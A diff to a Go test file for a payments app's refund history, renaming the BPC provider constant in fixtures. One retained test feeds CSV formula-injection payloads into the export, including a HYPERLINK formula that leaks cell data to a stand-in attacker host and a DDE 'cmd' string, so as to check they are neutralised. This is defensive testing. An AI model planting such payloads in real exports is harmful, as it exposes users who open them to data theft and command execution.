@@ -13,6 +13,7 @@ import (
 	"testing"
 
 	"paydesk/providers"
+	"paydesk/providers/bpc"
 	"paydesk/storage"
 )
 
@@ -65,10 +66,10 @@ func govTotals(body string) map[string]govTotal {
 func govRefundFixture(t *testing.T, h *harness) []storage.Payment {
 	t.Helper()
 	sam, max, mia := h.signedIn("sam"), h.signedIn("max"), h.signedIn("mia")
-	eur := h.add(providers.BPC, spec{variant: 2, amount: 200000})
-	gbp := h.add(providers.BPC, spec{variant: 2, amount: 100000, currency: "GBP"})
-	jpy := h.add(providers.BPC, spec{variant: 2, amount: 500000, currency: "JPY", name: "山田 花子"})
-	learnt := h.add(providers.BPC, spec{variant: 3, amount: 30000}) // partly refunded at BPC before import
+	eur := h.add(bpc.Name, spec{variant: 2, amount: 200000})
+	gbp := h.add(bpc.Name, spec{variant: 2, amount: 100000, currency: "GBP"})
+	jpy := h.add(bpc.Name, spec{variant: 2, amount: 500000, currency: "JPY", name: "山田 花子"})
+	learnt := h.add(bpc.Name, spec{variant: 3, amount: 30000}) // partly refunded at BPC before import
 
 	mustContain(t, govRequestRefund(t, sam, eur, "100.00", "duplicate", ""), "done")
 	mustContain(t, govRequestRefund(t, sam, eur, "600.00", "goodwill", ""), "awaiting")
@@ -217,7 +218,7 @@ func TestRefundHistoryTotalsAndCSVMatchTheFilteredRows(t *testing.T) {
 func TestRefundCSVNeutralisesFormulas(t *testing.T) {
 	h := newHarness(t)
 	evil := `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`
-	p := h.add(providers.BPC, spec{variant: 2, amount: 100000, name: evil})
+	p := h.add(bpc.Name, spec{variant: 2, amount: 100000, name: evil})
 	sam := h.signedIn("sam")
 	notes := []string{"+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)", "=1+1", "plain note, = inside is fine"}
 	for _, n := range notes {
@@ -294,7 +295,7 @@ func TestRefundHistoryPages(t *testing.T) {
 	h := newHarness(t)
 	sam := h.signedIn("sam")
 	var want []string
-	payments := []storage.Payment{h.add(providers.BPC, spec{variant: 2, amount: 100000}), h.add(providers.BPC, spec{variant: 2, amount: 100000})}
+	payments := []storage.Payment{h.add(bpc.Name, spec{variant: 2, amount: 100000}), h.add(bpc.Name, spec{variant: 2, amount: 100000})}
 	for i := 0; i < 53; i++ {
 		p := payments[i%2]
 		mustContain(t, govRequestRefund(t, sam, p, "1.00", "duplicate", ""), "done")
